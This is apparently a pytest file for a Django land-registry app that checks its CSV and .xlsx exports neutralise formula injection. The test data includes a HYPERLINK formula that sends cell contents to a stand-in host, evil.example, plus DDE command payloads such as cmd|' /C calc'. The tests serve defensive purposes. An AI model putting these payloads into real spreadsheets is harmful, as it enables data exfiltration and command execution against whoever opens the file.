"""Formula injection (issue 10, item 4): a text a town officer typed that starts like a formula (=, +, -, @,
tab, carriage return, or the full-width ＝＋－＠) is never live in a file the product writes — CSV cells get a
leading quote (OWASP), .xlsx cells are strings — numbers are untouched, and export -> import of the CSV gives
back exactly what was exported."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse
from import_books import XINPU, read_book, sheet_xml

from landcycle.audit.models import AuditEntry
from landcycle.ledgers.export import ledger_export
from landcycle.ledgers.services import ledger_import
from landcycle.registry import services
from landcycle.registry.models import Enterprise, Parcel, Park
from landcycle.rules.formula_guard import csv_restore, csv_text, is_formula_like
from landcycle.rules.ledger.sources import open_source

LINK = '=HYPERLINK("http://evil.example/x?d="&A1,"点此查看")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = [
    LINK,
    SUM,
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    "-",
    "'=1+1",
    "''@x",
    "'-3",
]
HARMLESS = ["慈溪市新浦镇电器有限公司", "-12.50", "+3", "\t913302820001", "'", "a=b", "O'Brien", "", "1-2"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_like_text_gets_a_quote_in_csv_and_reads_back_unchanged(text):
    assert is_formula_like(text)
    written = csv_text(text)
    assert written == "'" + text and csv_restore(written) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_numbers_are_untouched(text):
    assert not is_formula_like(text) and csv_text(text) == text and csv_restore(text) == text


def test_numbers_are_never_touched():
    from decimal import Decimal

    for v in (-5, -1.5, Decimal("-12.50"), 0, None):
        assert csv_text(v) is v


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _no_live_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not (cell[:1] in "=+@\t\r＝＋＠" and cell) or cell.startswith("\t") and cell[1:].isdigit(), cell
            assert not re.match(r"-[^\d]", cell), cell


@pytest.fixture
def planted(registry_data, personas):
    """A 新浦镇 officer plants formulas in an enterprise name, a park name and a parcel address."""
    officer = personas["xinpu"]
    xp = registry_data[XINPU]
    services.enterprise_update(actor=officer, enterprise=xp["owner"], name=LINK, contact=SUM)
    services.park_update(actor=officer, park=xp["park"], name='＝HYPERLINK("http://x")', note="-2+3+cmd|' /C calc'!A0")
    services.parcel_update(actor=officer, parcel=xp["parcels"][0], address="@SUM(A1:A9)")
    return xp


@pytest.mark.parametrize(
    "list_name,kind", [("enterprise_list", "enterprises"), ("park_list", "parks"), ("parcel_list", "parcels")]
)
def test_list_exports_keep_planted_formulas_as_text_and_import_back_unchanged(
    client, planted, personas, list_name, kind
):
    client.force_login(personas["admin"])
    data = _body(client.get(reverse(list_name), {"export": "csv"}))
    rows = _csv_rows(data)
    _no_live_cell(rows)
    text = "\n".join(",".join(r) for r in rows)
    if kind == "enterprises":
        assert "'" + LINK in text and "'" + SUM in text
    elif kind == "parks":
        assert "'＝HYPERLINK" in text and "'-2+3" in text
    else:
        assert "'@SUM(A1:A9)" in text
    audit = AuditEntry.objects.count()
    report = ledger_import(actor=personas["admin"], kind=kind, source=data, filename=f"{kind}.csv")
    assert report.ok and report.changed == 0 and report.unchanged > 0, report.problems
    assert AuditEntry.objects.count() == audit
    assert Enterprise.objects.get(pk=planted["owner"].pk).name == LINK
    assert Park.objects.get(pk=planted["park"].pk).name == '＝HYPERLINK("http://x")'
    assert Parcel.objects.get(pk=planted["parcels"][0].pk).address == "@SUM(A1:A9)"
    # the .xlsx of the same list: the text is a string cell, never a formula, and reads back as typed
    xlsx = _body(client.get(reverse(list_name), {"export": "xlsx"}))
    assert "<f>" not in sheet_xml(xlsx)
    report = ledger_import(actor=personas["admin"], kind=kind, source=xlsx, filename=f"{kind}.xlsx")
    assert report.ok and report.changed == 0, report.problems


def test_the_enterprise_ledger_csv_reads_the_name_as_the_officer_typed_it(planted, personas):
    data = ledger_export(user=personas["admin"], kind="enterprises", fmt="csv")
    sheet = open_source(data, "enterprises.csv").load("enterprises.csv")
    assert any(LINK in row for row in sheet.rows)  # the reader takes the quote off again
    raw = _csv_rows(data)
    assert any("'" + LINK in row for row in raw)


def test_contract_list_csv_neutralises_a_planted_project_name(client, supervision_data, personas):
    from landcycle.supervision.models import Contract

    contract = supervision_data[XINPU]["contract"]
    Contract.objects.filter(pk=contract.pk).update(project="=cmd|' /C calc'!A0", location="+1+1")
    client.force_login(personas["admin"])
    data = _body(client.get(reverse("contract_list"), {"export": "csv"}))
    rows = _csv_rows(data)
    _no_live_cell(rows)
    assert any("'=cmd|' /C calc'!A0" in r for r in rows) and any("'+1+1" in r for r in rows)
    report = ledger_import(actor=personas["admin"], kind="contracts", source=data, filename="contracts.csv")
    assert report.ok and report.changed == 0, report.problems


def test_rectification_ledger_csv_and_warning_board_csv(client, supervision_data, rectification_data, personas):
    from landcycle.rectification.models import Task
    from landcycle.supervision.maintained import sync_all
    from landcycle.supervision.models import Warning

    task = rectification_data[XINPU]["task"]
    Task.objects.filter(pk=task.pk).update(title='=HYPERLINK("http://x","整改")', measures="@SUM(A1)", person="-1+2")
    Warning.objects.filter(town__code=XINPU).update(reason_zh="=1+1 逾期", subject_label="=2+2 对象")
    sync_all()  # written behind the services' back: the board's kept rows follow (supervision.maintained)
    client.force_login(personas["supervisor"])
    rows = _csv_rows(_body(client.get(reverse("rectification_ledger"), {"export": "csv"})))
    _no_live_cell(rows)
    assert any('\'=HYPERLINK("http://x","整改")' in r for r in rows)
    assert any("'@SUM(A1)" in r for r in rows) and any("'-1+2" in r for r in rows)
    xlsx = _body(client.get(reverse("rectification_ledger"), {"export": "xlsx"}))
    assert "<f>" not in sheet_xml(xlsx)
    client.force_login(personas["admin"])
    rows = _csv_rows(_body(client.get(reverse("warning_board"), {"export": "csv"})))
    _no_live_cell(rows)
    assert any("'=2+2 对象" in r for r in rows)  # the board's subject cell (reasons are written inside a list)


def test_supervision_report_never_writes_a_formula():
    from landcycle.supervision.export import report_xlsx

    summary = {
        k: 0
        for k in (
            "rows_read",
            "selected",
            "supervised",
            "not_supervised",
            "red",
            "yellow",
            "green",
            "blue",
            "grey",
            "idle",
            "idle_exempt",
            "take_back",
            "fees_wan",
            "fee_unknown",
        )
    }
    d = {
        "as_of": "2026-11-29",
        "policy": {"name": "p", "version": "1", "hash": "h"},
        "source": {"file": '=HYPERLINK("http://x").xlsx'},
        "selection": "@SUM(1)",
        "summary": summary,
        "notes": [{"zh": "+1+1"}],
        "contracts": [],
        "problems": [],
    }
    data = report_xlsx(d)
    book = read_book(data)
    assert ["来源文件", '=HYPERLINK("http://x").xlsx'] in book["说明"] and ["筛选", "@SUM(1)"] in book["说明"]
    assert "<f>" not in "".join(sheet_xml(data, n) for n in range(1, 5))
